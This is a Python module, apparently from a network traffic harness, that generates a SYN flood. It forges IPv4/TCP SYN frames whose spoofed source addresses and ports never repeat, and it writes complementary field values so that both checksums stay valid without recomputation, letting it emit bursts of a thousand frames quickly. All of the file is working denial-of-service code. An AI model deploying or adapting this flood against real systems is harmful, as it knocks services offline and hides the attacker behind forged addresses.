"""A flood: SYNs of which no two have the same source. One burst is written over for each thousand; what one half of a word
gets another is deprived of, so that both checksums stay right."""
import socket
import struct

from frames import SYN, TCP, checksum, frame, sum_of
from road import BURST, Burst

# In a frame of IPv4 and TCP.
IP_AT, ID_AT, IP_CHECK_AT, HOST_AT, TCP_AT, SEQUENCE_AT, TCP_CHECK_AT = 14, 18, 24, 28, 34, 38, 50
NETWORK, HOSTS, FIRST_PORT = "10.128.0.0", 0x10000, 1024


def write(place, number):
    host, port = number % HOSTS, FIRST_PORT + number // HOSTS
    struct.pack_into("!H", place, ID_AT, 0xffff - host)
    struct.pack_into("!H", place, HOST_AT, host)
    struct.pack_into("!H", place, TCP_AT, port)
    struct.pack_into("!HH", place, SEQUENCE_AT, 0xffff - host, 0xffff - port)


class Forged:
    def __init__(self, road, target):
        made = bytearray(frame(road.macs["client"], (NETWORK, FIRST_PORT), target, TCP, SYN))
        write(made, 0)
        made[IP_CHECK_AT:IP_CHECK_AT + 2] = made[TCP_CHECK_AT:TCP_CHECK_AT + 2] = b"\0\0"
        segment = bytes(made[TCP_AT:])
        pseudo = socket.inet_aton(NETWORK) + socket.inet_aton(target[0]) + struct.pack("!II", len(segment), TCP)
        made[TCP_CHECK_AT:TCP_CHECK_AT + 2] = checksum(sum_of(pseudo + segment))
        made[IP_CHECK_AT:IP_CHECK_AT + 2] = checksum(sum_of(bytes(made[IP_AT:TCP_AT])))
        self.burst, self.number = Burst([bytes(made)] * BURST), 0

    def next(self):
        """A thousand more."""
        for place in self.burst.frames:
            write(place, self.number)
            self.number += 1
        return self.burst
